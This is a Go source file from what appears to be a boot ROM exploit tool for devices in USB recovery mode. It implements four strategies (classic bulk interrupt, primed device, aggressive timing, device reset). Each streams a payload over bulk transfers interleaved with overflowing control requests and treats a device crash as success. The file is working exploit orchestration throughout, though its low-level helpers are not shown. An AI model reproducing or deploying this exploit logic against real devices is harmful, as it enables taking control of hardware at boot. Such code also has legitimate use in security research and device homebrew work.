package exploit

import (
	"errors"
	"fmt"
	"time"

	"github.com/golang/glog"

	"github.com/rcmhax/gelee/pkg/devices"
	"github.com/rcmhax/gelee/pkg/rcm"
)

// Strategy is one way of racing the boot ROM into the vulnerable copy.
// Strategies keep no state between runs.
type Strategy interface {
	Name() string
	// Run returns a human readable message on success.
	Run(usb devices.Usb, ep uint8, payload []byte) (string, error)
}

var errStillResponsive = errors.New("device still responsive")

type base struct {
	P *rcm.Parameters
	T *Timing
}

func (b base) device(usb devices.Usb, ep uint8, payload []byte) *device {
	return &device{usb: usb, ep: ep, payload: payload, p: b.P, t: b.T}
}

// DefaultStrategies returns all strategies, in the order they should be
// attempted.
func DefaultStrategies(p *rcm.Parameters, t *Timing) []Strategy {
	b := base{P: p, T: t}
	return []Strategy{
		&ClassicBulkInterrupt{b},
		&PrimedDevice{b},
		&AggressiveTiming{b},
		&DeviceReset{b},
	}
}

// ClassicBulkInterrupt expects the first bulk write to time out, and
// follows it up immediately with an overflowing control request.
type ClassicBulkInterrupt struct{ base }

func (s *ClassicBulkInterrupt) Name() string { return "classic bulk interrupt" }

func (s *ClassicBulkInterrupt) Run(usb devices.Usb, ep uint8, payload []byte) (string, error) {
	d := s.device(usb, ep, payload)

	_, err := usb.WriteBulk(ep, head(payload, s.P.ChunkSize), s.T.ClassicWrite)
	switch {
	case err == nil:
		return "", errors.New("device accepted bulk data normally, exploit not triggered")
	case !devices.IsTimeout(err):
		return "", fmt.Errorf("unexpected bulk transfer error: %w", err)
	}

	glog.Infof("  Bulk transfer timed out as expected, sending overflow control transfer...")
	d.overflow(s.T.OverflowRead)
	if d.crashed(s.T.Settle, s.T.Probe) {
		return "Classic bulk interrupt exploit succeeded! Device crashed.", nil
	}
	return "", errStillResponsive
}

// PrimedDevice primes the device with a burst of device-level GET_STATUS
// requests, then streams the payload while interleaving overflowing control
// requests.
type PrimedDevice struct{ base }

func (s *PrimedDevice) Name() string { return "primed device" }

func (s *PrimedDevice) Run(usb devices.Usb, ep uint8, payload []byte) (string, error) {
	d := s.device(usb, ep, payload)

	for i := 1; i <= s.T.PrimeReads; i++ {
		if err := d.prime(s.T.PrimeRead); err != nil {
			glog.V(1).Infof("  Prime control transfer %d failed: %v", i, err)
		} else {
			glog.V(1).Infof("  Prime control transfer %d succeeded", i)
		}
		time.Sleep(s.T.PrimeSpacing)
	}

	sent, err := usb.WriteBulk(ep, head(payload, s.P.ChunkSize), s.T.PrimedFirstWrite)
	if err != nil {
		if !devices.IsTimeout(err) {
			return "", fmt.Errorf("bulk transfer failed: %w", err)
		}
		d.overflow(s.T.OverflowRead)
		if d.crashed(s.T.Settle, s.T.Probe) {
			return "Primed device exploit succeeded! Device became unresponsive.", nil
		}
		return "", fmt.Errorf("%w after primed timeout", errStillResponsive)
	}
	glog.Infof("  Bulk transfer succeeded (%d bytes) after priming", sent)

	alternate := false
	retries := 0
	for sent < len(payload) {
		chunk := head(payload[sent:], s.P.ChunkSize)
		if alternate {
			d.overflow(s.T.ShortOverflowRead)
		}
		alternate = !alternate

		n, err := usb.WriteBulk(ep, chunk, s.T.PrimedChunkWrite)
		if err == nil {
			if n <= 0 {
				n = len(chunk)
			}
			sent += n
			retries = 0
			glog.V(1).Infof("  Sent %d bytes, total: %d bytes", n, sent)
			continue
		}
		if !devices.IsTimeout(err) {
			return "", fmt.Errorf("bulk transfer failed: %w", err)
		}
		if d.crashed(s.T.ShortSettle, s.T.ShortProbe) {
			return "Primed device exploit succeeded! Device became unresponsive.", nil
		}
		retries += 1
		if retries > s.T.ChunkRetries {
			glog.Warningf("  Chunk at 0x%x kept timing out, skipping it", sent)
			sent += len(chunk)
			retries = 0
		}
	}
	return "", errors.New("completed all data transfer without triggering exploit")
}

// AggressiveTiming sends the payload in small chunks with very short
// timeouts, each preceded by an overflowing control request.
type AggressiveTiming struct{ base }

func (s *AggressiveTiming) Name() string { return "aggressive timing" }

func (s *AggressiveTiming) Run(usb devices.Usb, ep uint8, payload []byte) (string, error) {
	d := s.device(usb, ep, payload)

	for off := 0; off < len(payload); off += s.T.AggressiveChunkSize {
		chunk := head(payload[off:], s.T.AggressiveChunkSize)

		d.overflow(s.T.AggressiveRead)
		if _, err := usb.WriteBulk(ep, chunk, s.T.AggressiveWrite); err != nil {
			if !devices.IsTimeout(err) {
				return "", fmt.Errorf("aggressive transfer failed: %w", err)
			}
			if d.crashed(s.T.AggressiveDelay, s.T.AggressiveProbe) {
				return "Aggressive timing exploit succeeded! Device became unresponsive.", nil
			}
			continue
		}
		glog.V(1).Infof("  Aggressive chunk sent (%d bytes)", len(chunk))
		time.Sleep(s.T.AggressiveDelay)
	}
	return "", errors.New("aggressive timing completed without triggering exploit")
}

// DeviceReset resets the device and clears the endpoint halt before sending
// a single buffer followed by an overflowing control request.
type DeviceReset struct{ base }

func (s *DeviceReset) Name() string { return "device reset" }

func (s *DeviceReset) Run(usb devices.Usb, ep uint8, payload []byte) (string, error) {
	d := s.device(usb, ep, payload)

	if err := usb.Reset(); err != nil {
		glog.Warningf("  Device reset not supported or failed: %v", err)
	} else {
		glog.Infof("  Device reset attempted")
		time.Sleep(s.T.ResetSettle)
	}
	if err := usb.ClearHalt(ep); err != nil {
		glog.Warningf("  Clearing halt on endpoint 0x%02x failed: %v", ep, err)
	}

	_, err := usb.WriteBulk(ep, head(payload, s.P.ChunkSize), s.T.ResetWrite)
	switch {
	case err == nil:
		glog.Infof("  Minimal bulk transfer succeeded after reset, device is responsive")
		d.overflow(s.T.ShortOverflowRead)
		if d.crashed(s.T.ShortSettle, s.T.ShortProbe) {
			return "Device reset + minimal payload exploit succeeded!", nil
		}
		return "", fmt.Errorf("%w after reset + overflow attempt", errStillResponsive)
	case devices.IsTimeout(err):
		glog.Infof("  Minimal bulk transfer timed out after reset, trying overflow")
		d.overflow(s.T.OverflowRead)
		if d.crashed(s.T.Settle, s.T.Probe) {
			return "Device reset + timeout exploit succeeded!", nil
		}
		return "", fmt.Errorf("%w after reset timeout", errStillResponsive)
	default:
		return "", fmt.Errorf("reset method failed: %w", err)
	}
}
